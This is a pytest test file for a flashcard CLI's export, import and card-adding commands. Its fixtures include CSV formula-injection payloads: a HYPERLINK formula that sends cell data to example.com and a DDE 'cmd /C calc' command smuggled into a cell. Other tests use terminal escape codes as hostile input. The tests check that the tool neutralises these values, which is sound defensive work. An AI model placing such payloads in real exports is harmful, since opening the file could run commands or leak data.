def test_export_apkg_is_an_anki_package_with_stable_ids(tmp_path: Path) -> None:
    import genanki

    out = tmp_path / "m.apkg"
    assert run("export", "csto-members", "-f", "apkg", "-o", str(out)).exit_code == 0  # type: ignore
    deck = find(["csto-members"])[0]
    with zipfile.ZipFile(out) as z:
        z.extract("collection.anki2", tmp_path)
    con = sqlite3.connect(tmp_path / "collection.anki2")
    rows = con.execute("SELECT guid, flds FROM notes").fetchall()
    assert sorted(g for g, _ in rows) == sorted(genanki.guid_for(deck.id, c.id)
                                                for c in deck.cards)
    fields = {_quiz_key(f): f.split("\x1f") for _, f in rows}
    first = deck.cards[0]
    assert first.question.replace("'", "&#x27;") in fields[f"{deck.id}/{first.id}"][0]
    # the back shows the answer as quiz does: a list with commas, True not true
    backs = {card.type.value: fields[f"{deck.id}/{card.id}"][1].split("<br>")[0]
             for card in deck.cards}
    assert backs["truefalse"] in ("True", "False")
    assert backs["multi"].count(", ") >= 1 and "|" not in backs["multi"]


def test_export_apkg_makes_cloze_cards_anki_cloze_notes(tmp_path: Path) -> None:
    """A cloze card becomes a note of a cloze note type, its blank written as
    Anki's {{c1::answer}} (so Anki shows [...] and fills it in place, and
    its plain-text export imports back as a cloze card); braces and colons
    of the deck's own text cannot make deletions of their own."""
    deck_file = tmp_path / "c.yaml"
    deck_file.write_text("id: c\ntitle: C\ncards:\n"
                         "  - {id: a, question: 'It came from ___ and Belarus.', answer: "
                         "Russia, explain: Five members sent troops.}\n"
                         "  - {id: b, question: 'Say {{c2::this}}: the ___ here.', answer: "
                         "'a::b}}', type: cloze}\n"
                         "  - {id: t, question: 'Capital?', answer: Astana}\n")
    out = tmp_path / "c.apkg"
    assert run("export", str(deck_file), "-f", "apkg", "-o", str(out)).exit_code == 0  # type: ignore
    with zipfile.ZipFile(out) as z:
        z.extract("collection.anki2", tmp_path)
    con = sqlite3.connect(tmp_path / "collection.anki2")
    models = json.loads(con.execute("SELECT models FROM col").fetchone()[0])
    notes = {_quiz_key(f): (models[str(mid)], f.split("\x1f"))
             for mid, f in con.execute("SELECT mid, flds FROM notes")}
    con.close()
    model, fields = notes["c/a"]
    assert model["type"] == 1 and model["tmpls"][0]["qfmt"] == "{{cloze:Text}}"  # cloze
    assert fields[:2] == ["It came from {{c1::Russia}} and Belarus.", "Five members sent troops."]
    model, fields = notes["c/b"]
    assert fields[0] == ("Say &#123;&#123;c2::this&#125;&#125;: the "
                         "{{c1::a&#58;&#58;b&#125;&#125;}} here.")  # shown as typed
    assert re.findall(r"\{\{c\d+::", fields[0]) == ["{{c1::"]
    assert notes["c/t"][0]["type"] == 0  # other cards stay front and back


def test_export_apkg_leaves_nothing_in_the_temp_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile

    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    out = tmp_path / "m.apkg"
    assert run("export", "csto-dates", "-f", "apkg", "-o", str(out)).exit_code == 0  # type: ignore
    assert list(temp.iterdir()) == []
    with zipfile.ZipFile(out) as z:
        assert sorted(z.namelist()) == ["collection.anki2", "media"]
        assert z.read("media") == b"{}"


def test_validate_watch_checks_again_on_save(tmp_path: Path, quiz_home: Path) -> None:
    import os
    import sys

    path = tmp_path / "w.yaml"
    path.write_text("id: w\ntitle: W\ncards:\n  - {id: a, question: Q?, answer: x}\n")
    quiz = str(Path(sys.executable).parent / "quiz")
    child = pexpect.spawn(quiz, ["validate", "--watch", str(path)], encoding="utf-8",
                          timeout=20, env={**os.environ, "QUIZ_HOME": str(quiz_home)})
    child.expect("ok: 1 deck, 1 card")
    child.expect("Watching for changes")
    path.write_text("id: w\ntitle: W\ncards:\n  - {id: a, question: Q?}\n")
    child.expect(r"w\.yaml:4:5: card 'a' has no 'answer'")
    path.write_text("id: w\ntitle: W\ncards:\n  - {id: a, question: Q?, answer: y}\n")
    child.expect("ok: 1 deck, 1 card")
    # editors that save by renaming a new file over the old one: every save is
    # seen, not only the first (a watch on the file itself went quiet)
    for text, seen in (("  - {id: a, question: Q?}\n", "card 'a' has no 'answer'"),
                       ("  - {id: a, question: Q?, answer: z}\n", "ok: 1 deck, 1 card"),
                       ("  - {id: b, question: Q?}\n", "card 'b' has no 'answer'")):
        new = tmp_path / ".w.yaml.swp"
        new.write_text("id: w\ntitle: W\ncards:\n" + text)
        os.replace(new, path)
        child.expect(seen)
    path.unlink()  # deleted, then written again
    path.write_text("id: w\ntitle: W\ncards:\n  - {id: c, question: Q?}\n")
    child.expect("card 'c' has no 'answer'")
    (tmp_path / "other.yaml").write_text("not: watched\n")  # beside it, not named: ignored
    import time

    time.sleep(1.5)  # longer than the watcher's grouping of changes
    child.sendintr()
    child.expect(pexpect.EOF)
    child.close()
    assert "---" not in (child.before or "")  # no further check ran
    assert child.exitstatus == 0


def test_add_by_deck_id_to_a_deck_made_with_new(keys: Keys, quiz_home: Path) -> None:
    assert run("new", "my-facts").exit_code == 0  # type: ignore[attr-defined]
    # truefalse is the sixth type; question; "true"; no tags; no source; no explanation
    keys(DOWN * 5, ENTER, "Astana is the capital.", ENTER, ENTER, ENTER, ENTER, ENTER, ENTER)
    r = CliRunner().invoke(app, ["add", "my-facts"])
    assert r.exit_code == 0, r.output
    deck = load_deck(quiz_home / "decks" / "my-facts.yaml", cache=False)
    card = deck.card("astana-is-the-capital")
    assert card is not None and card.type is CardType.TRUEFALSE and card.answer is True
    assert len(deck.cards) == 14  # the scaffold's 13 (2 blanks, 2 ways round) and this one


def test_add_on_a_dumb_terminal_uses_numbered_lists(deck_copy: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.delenv("NO_COLOR")
    # type 4 (number); question; "lots" is refused, then 2,000; no tags; source 1
    # (none); no explanation; Enter keeps the suggested id
    lines = ["4", "How many officers?", "lots", "2,000", "", "1", "", ""]
    r = CliRunner().invoke(app, ["add", str(deck_copy)], input="\n".join(lines) + "\n")
    assert r.exit_code == 0, r.output
    assert "\x1b" not in r.output
    assert "? Card type?\n  1. text: a typed answer\n" in r.output
    assert "Type a number, like 4,500 or 4.5k" in r.output
    card = load_deck(deck_copy, cache=False).card("how-many-officers")
    assert card is not None and card.type is CardType.NUMBER and card.answer == 2000
    assert card.source is None
    # the source the last card cites is offered first: Enter takes it
    assert "  6. tass-jan19-borodavkin\nNumber [6]: " in r.output
    lines = ["4", "How many more?", "3", "", "", "", ""]
    r = CliRunner().invoke(app, ["add", str(deck_copy)], input="\n".join(lines) + "\n")
    assert r.exit_code == 0, r.output
    card = load_deck(deck_copy, cache=False).card("how-many-more")
    assert card is not None and card.source == "tass-jan19-borodavkin"


FORMULAS = """\
id: formulas
title: Formulas
cards:
  - id: link
    question: '=HYPERLINK("http://example.com/?"&A1, "Click")'
    answer: '@SUM(A1:A2)'
    accept: ['+1+1', plain]
  - id: cmd
    question: "-2+3+cmd|' /C calc'!A0"
    answer: "'=quoted, not a formula"
  - id: cold
    question: How cold was it, in degrees?
    answer: -5
    tolerance: 0
"""


def exported_cells(deck: Path, *options: str) -> list[dict[str, str]]:
    r = run("export", str(deck), "-f", "csv", *options)
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    rows = list(csv.reader(r.stdout.splitlines(keepends=True)))  # type: ignore[attr-defined]
    body = [row for row in rows if not row[0].startswith("#")]  # the deck's own rows first
    return [dict(zip(body[0], row, strict=True)) for row in body[1:]]


def test_export_makes_cells_a_spreadsheet_would_run_text_and_import_undoes_it(
        tmp_path: Path) -> None:
    """A deck author's '=HYPERLINK(...)' or '-2+3+cmd|...' in a CSV runs as
    a formula when the file is opened in a spreadsheet: such a cell gets a
    ' before it (OWASP's advice), a plain number such as -5 does not, and a
    cell that really starts with a quote gets one more, so that quiz import
    gives back every cell as it was."""
    deck = tmp_path / "formulas.yaml"
    deck.write_text(FORMULAS)
    rows = exported_cells(deck)
    assert [(r["question"], r["answer"], r["accept"]) for r in rows] == [
        ("'=HYPERLINK(\"http://example.com/?\"&A1, \"Click\")", "'@SUM(A1:A2)", "'+1+1 | plain"),
        ("'-2+3+cmd|' /C calc'!A0", "''=quoted, not a formula", ""),
        ("How cold was it, in degrees?", "-5", "")]
    table = tmp_path / "formulas.csv"
    assert run("export", str(deck), "-o", str(table)).exit_code == 0  # type: ignore
    back = tmp_path / "back.yaml"
    r = run("import", str(table), "-o", str(back))
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    fields = ("id", "type", "question", "answer", "accept", "tolerance")
    assert [[getattr(c, f) for f in fields] for c in load_deck(back).cards] == [
        [getattr(c, f) for f in fields] for c in load_deck(deck).cards]


def test_export_raw_cells_writes_them_as_they_are(tmp_path: Path) -> None:
    deck = tmp_path / "formulas.yaml"
    deck.write_text(FORMULAS)
    rows = exported_cells(deck, "--raw-cells")
    assert [(r["question"], r["answer"], r["accept"]) for r in rows] == [
        ('=HYPERLINK("http://example.com/?"&A1, "Click")', "@SUM(A1:A2)", "+1+1 | plain"),
        ("-2+3+cmd|' /C calc'!A0", "'=quoted, not a formula", ""),
        ("How cold was it, in degrees?", "-5", "")]


def test_import_takes_the_formula_quote_off_only_in_quiz_own_layout(tmp_path: Path) -> None:
    """quiz's own CSV (a header row naming question and answer) comes from
    quiz export, which quotes formula cells; a two-column file or Anki's
    export is read as written, so "'-able" there keeps its quote."""
    ours = tmp_path / "ours.csv"
    ours.write_text("question,answer\n'=1+1 in a formula?,'@2\n'Tis the season?,''-x\n")
    assert run("import", str(ours), "-o", str(tmp_path / "ours.yaml")).exit_code == 0  # type: ignore
    assert [(c.question, c.answer) for c in load_deck(tmp_path / "ours.yaml").cards] == [
        ("=1+1 in a formula?", "@2"), ("'Tis the season?", "'-x")]
    theirs = tmp_path / "theirs.csv"
    theirs.write_text("'-able,a suffix: capable of\n'=x,'+y\n")
    assert run("import", str(theirs), "-o", str(tmp_path / "theirs.yaml")).exit_code == 0  # type: ignore
    assert [(c.question, c.answer) for c in load_deck(tmp_path / "theirs.yaml").cards] == [
        ("'-able", "a suffix: capable of"), ("'=x", "'+y")]


@pytest.mark.parametrize(("name", "title", "file"), [
    ("na\udcefve", "Na\ufffdve", "nave.yaml"),  # a byte the system could not decode
    ("na\x1bve", "Na Ve", "na-ve.yaml"),
    ("caf\u00e9 \u6771\u4eac", "Caf\u00e9 \u6771\u4eac", "cafe.yaml"),
])
def test_new_makes_a_deck_title_of_any_name(quiz_home: Path, name: str, title: str,
                                            file: str) -> None:
    """A name with an undecodable byte crashed quiz new (exit 70), and one
    with ESC wrote a deck that did not validate."""
    r = run("new", name)
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    deck = load_deck(quiz_home / "decks" / file)
    assert deck.title == title
    assert run("validate", str(quiz_home / "decks" / file)).exit_code == 0  # type: ignore


def test_new_and_import_make_a_typed_title_plain_text(quiz_home: Path, tmp_path: Path) -> None:
    r = run("new", "colours", "--title", "\x1b[31mRed\x1b[0m and\u202e blue\n")
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    assert load_deck(quiz_home / "decks" / "colours.yaml").title == "[31mRed [0m and blue"
    table = tmp_path / "cards.csv"
    table.write_text("front,back\nQ?,A\n")
    r = run("import", str(table), "--title", "\x07")  # nothing printable: the file's name
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    assert load_deck(quiz_home / "decks" / "cards.yaml").title == "cards"


@pytest.mark.parametrize(("name", "deck_id", "title"), [
    (os.fsdecode(b"caf\xc3\xa9.csv"), "cafe", "caf\u00e9"),
    (os.fsdecode(b"e\x1bsc.csv"), "e-sc", "e sc"),
    (os.fsdecode(b"b\xefad.csv"), "bad", "b\ufffdad"),  # not UTF-8: a surrogate escape
])
def test_import_of_a_file_with_any_name_makes_a_valid_deck(
        quiz_home: Path, tmp_path: Path, name: str, deck_id: str, title: str) -> None:
    table = tmp_path / name
    table.write_text("front,back\nCapital of Kazakhstan?,Astana\n")
    r = run("import", str(table))
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    deck = load_deck(quiz_home / "decks" / f"{deck_id}.yaml")
    assert (deck.id, deck.title) == (deck_id, title)
    assert deck.description == f"Imported from {title}.csv."


def test_import_of_a_header_row_alone_says_so(tmp_path: Path) -> None:
    """Found by tests/test_import_fuzz.py: quiz's own header with no rows
    said 'the deck has no cards', unlike a front,back header alone."""
    table, said = failed_import(tmp_path, "header.csv", "id,question,answer\n")
    assert said == f"quiz: {table}: no cards in this file, only a header row\n"


def test_import_of_a_tolerance_that_is_no_number_is_told_at_its_row(tmp_path: Path) -> None:
    """Found by the fuzz: a tolerance of 'a' crashed the import (exit 70)."""
    table, said = failed_import(tmp_path, "t.csv", "question,answer,type,tolerance\n"
                                "How many?,5,number,a\nHow many more?,1e999,number,\n")
    assert said.splitlines()[:2] == [
        f"{table}:2: 'tolerance' must be a number of 0 or more",
        f"{table}:3: the answer of a number card must be a number, like 4500 or 2.5"]


def test_import_tells_a_source_problem_at_the_row_that_gave_it(tmp_path: Path) -> None:
    """Found by the fuzz: a source's problem named no line of the table."""
    table, said = failed_import(tmp_path, "s.csv", "question,answer,source,source_outlet,"
                                "source_date,source_title\nQ?,A,s1,TASS,2022-01-19,Report\n"
                                "Q2?,B,s2,TASS,,Report\nQ3?,C,s\x1b,TASS,2022-01-19,Report\n")
    assert said.splitlines()[:2] == [
        f"{table}:3: source 's2' has no 'date' (YYYY-MM-DD, or YYYY-MM when the day is "
        "unknown)",
        f"{table}:4: contains the control character U+001B ESCAPE; terminal control codes "
        "are not allowed in deck text"]


def test_add_writes_a_flip_card_asked_both_ways(
        keys: Keys, quiz_home: Path) -> None:
    assert run("new", "my-facts").exit_code == 0  # type: ignore[attr-defined]
    # basic is the ninth type; front; back; both ways: Yes; no tags; the source offered;
    # no explanation; the id offered
    keys(DOWN * 8, ENTER, "What is a steppe?", ENTER, "A plain of grass.", ENTER, DOWN, ENTER,
         ENTER, ENTER, ENTER, ENTER)
    r = CliRunner().invoke(app, ["add", "my-facts"])
    assert r.exit_code == 0, r.output
    path = quiz_home / "decks" / "my-facts.yaml"
    assert "  - id: what-is-a-steppe\n    question: What is a steppe?\n    type: basic\n" \
           "    answer: A plain of grass.\n    reverse: true\n" in path.read_text()
    deck = load_deck(path, cache=False)
    back = deck.card("what-is-a-steppe:reverse")
    assert back is not None and back.question == "A plain of grass."


def test_add_asks_a_cloze_of_numbered_blanks_for_no_answer(keys: Keys, quiz_home: Path) -> None:
    assert run("new", "my-facts").exit_code == 0  # type: ignore[attr-defined]
    path = quiz_home / "decks" / "my-facts.yaml"
    # the blanks hold the answers: no answer, nor other answers, is asked
    keys(DOWN * 7, ENTER, "{{c1::Astana}} is the capital of {{c2::Kazakhstan}}.", ENTER,
         ENTER, ENTER, ENTER, ENTER)
    r = CliRunner().invoke(app, ["add", "my-facts"])
    assert r.exit_code == 0, r.output
    deck = load_deck(path, cache=False)
    made = [c for c in deck.cards if c.template and "Astana" in c.template]
    assert [(c.id.rsplit(":", 1)[1], c.answer) for c in made] == [
        ("c1", "Astana"), ("c2", "Kazakhstan")]
